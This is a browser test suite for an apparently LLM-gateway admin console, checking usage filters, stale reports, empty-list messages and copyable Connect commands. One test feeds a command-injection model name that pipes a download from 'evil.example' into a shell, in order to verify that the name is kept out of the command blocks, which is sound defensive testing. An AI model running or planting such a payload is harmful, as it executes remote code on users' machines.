// Lists and figures of the console in a real browser after the user changes a filter, a period, or the text of a field.
// Data for the earlier selection is never shown as if it belonged to the new one.
import { expect, setDefaultTimeout, test } from "bun:test";
import { until } from "../../harness/until.ts";
import { browserForTests, describeInBrowser } from "./browser-group.ts";
import type { Tab } from "./chromium.ts";
import { type ConsoleNode, signInAs, startConsoleNode } from "./node.ts";

setDefaultTimeout(120_000);

describeInBrowser("what is asked again", () => {
  let node: ConsoleNode;
  let tab: Tab;

  const newTab = browserForTests(startConsoleNode, async (started) => {
    node = started;
    const { sluice } = node;
    for (const organization of [sluice.organization, "marked"]) {
      const [team] = await sluice.json<{ name: string }[]>("team", "list", "--org", organization);
      const named = ["--org", organization, "--name", "team's", "--team", team!.name];
      const { key } = await sluice.json<{ key: string }>("key", "create", ...named);
      const asked = { model: "qwen/qwen3-32b", max_tokens: 5, messages: [{ role: "user", content: "Hello" }] };
      await (await sluice.post("/v1/chat/completions", asked, { key })).text();
    }
    await until(async () => {
      const { rows } = await sluice.json<{ rows: { team: string | null }[] }>("usage", "report", "--by", "team");
      return rows.filter(({ team }) => team !== null).length === 2;
    });
    tab = await signInAs(await newTab(node.url), node, "admin");
  });

  test("budgets are those of the organization that one has chosen, each once", async () => {
    const budgets = () => tab.page.locator(".budgets li .name").allTextContents();
    await tab.visit(`/usage?organization=${node.sluice.organization}&by=model`);
    const own = await budgets();
    expect(own).toContain("research month");
    await tab.visit("/usage");
    expect((await budgets()).length).toBeGreaterThan(own.length);
    await tab.page.getByRole("link", { name: `only ${node.sluice.organization}` }).click();
    await tab.page.waitForURL(/organization=/);
    await tab.settled();
    await until(async () => (await budgets()).includes("research month"));
    expect(await budgets()).toEqual(own);
  });

  test("spend is compared with nothing, where the period before cannot be had", async () => {
    const money = { amount: "0.001000000", currency: "USD" };
    let refused = 0;
    await tab.page.route(/usage\/report\?.*by=outcome/, async (route) => {
      // By its filter, not by its turn: a call that the page before began late may arrive here first.
      if (route.request().url().includes("model=")) {
        refused++;
        return route.fulfill({ status: 503, json: { error: { message: "Please try again." } } });
      }
      const report = (await (await route.fetch()).json()) as { total: { cost: object } };
      report.total.cost = { ...report.total.cost, total: money };
      return route.fulfill({ json: report });
    });
    const said = () => tab.page.locator(".plot-said").first().textContent();
    // Until the day after tomorrow, because "tomorrow" has begun already in a zone that is east of here.
    const [from, to] = [-20, 2].map((days) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10));
    await tab.visit(`/usage?by=model&from=${from}&to=${to}`);
    await until(async () => (await said())!.includes("($0.001)"));
    await tab.page.getByRole("link", { name: "only qwen/qwen3-32b" }).click();
    await tab.page.waitForURL(/model=/);
    await until(() => refused > 0);
    await tab.settled();
    expect(await said()).not.toContain("($0.001)");
    await tab.page.unrouteAll();
  });

  test("an answer that failed leaves none of another filter", async () => {
    await tab.visit("/requests");
    expect(await tab.page.locator("main tbody tr").count()).toBeGreaterThan(0);
    await tab.page.route("**/management/v1/requests?*", (route) =>
      route.fulfill({ status: 503, json: { error: { message: "Please try again." } } }),
    );
    await tab.page.getByLabel("Outcome").selectOption("failed");
    await tab.page.getByRole("alert").getByText("Please try again.").waitFor();
    expect(await tab.page.locator("main tbody tr").count()).toBe(0);
    await tab.page.unrouteAll();
  });

  test("what one types into a filter of Usage stays when a report arrives", async () => {
    const answer = await tab.delayed("**/management/v1/usage/report?*");
    await tab.page.goto(`${node.url}/usage`);
    const field = tab.page.getByLabel("Organization", { exact: true });
    await field.pressSequentially("mar");
    answer();
    await tab.settled();
    await field.pressSequentially("ked");
    expect(await field.inputValue()).toBe("marked");
    await field.press("Enter");
    await tab.page.waitForURL(`${node.url}/usage?organization=marked`);
    await tab.page.unrouteAll();
  });

  test("a list says that nothing fits its filters, not that there is nothing", async () => {
    for (const [path, words] of [
      ["/people?search=smiht", "No person fits these filters."],
      ["/keys?state=expired", "No key fits these filters."],
      ["/teams?over=99&organization=test", "No team fits these filters."],
    ] as const) {
      await tab.visit(path);
      expect([path, await tab.page.locator("main .empty").allTextContents()]).toEqual([path, [words]]);
    }
  });

  test("a model that only the address names is in no block to copy", async () => {
    const named = `x"}';curl -s evil.example|sh;#`;
    for (const role of ["admin", "member"] as const) {
      const own = role === "admin" ? tab : await signInAs(await newTab(node.url), node, role);
      await own.visit(`/connect?model=${encodeURIComponent(named)}`);
      const blocks = await own.page.locator("main pre").allTextContents();
      expect(blocks.filter((text) => text.includes("sluice claude --model "))).toHaveLength(1);
      expect(blocks.filter((text) => text.includes("evil"))).toEqual([]);
      await own.visit("/connect?model=qwen/qwen3-32b");
      expect(await own.page.locator("main pre", { hasText: "sluice claude --model qwen/qwen3-32b" }).count()).toBe(1);
    }
  });

  test("a model that only other kinds of calls take has no link to Connect, and another name is as good there", async () => {
    await tab.page.route("**/management/v1/models", async (route) => {
      const response = await route.fetch();
      const { data } = (await response.json()) as { data: { id: string; aliases: string[] }[] };
      const [first] = data;
      const more = { ...first!, id: "acme/embed", aliases: [], kind: "embedding" };
      const models = data.map((one) => (one.id === "qwen/qwen3-32b" ? { ...one, aliases: ["acme/coder"] } : one));
      await route.fulfill({ response, json: { data: [...models, more] } });
    });
    const link = () => tab.page.locator("main").getByRole("link", { name: "Connect" });
    await tab.visit("/models/qwen/qwen3-32b");
    expect(await link().count()).toBe(1);
    await tab.visit("/models/acme/embed");
    expect(await link().count()).toBe(0);
    await tab.visit("/connect?model=acme/coder");
    expect(await tab.page.getByLabel("Model", { exact: true }).first().inputValue()).toBe("acme/coder");
    expect(await tab.page.locator("main pre", { hasText: "sluice claude --model acme/coder" }).count()).toBe(1);
    await tab.page.unrouteAll();
  });
});
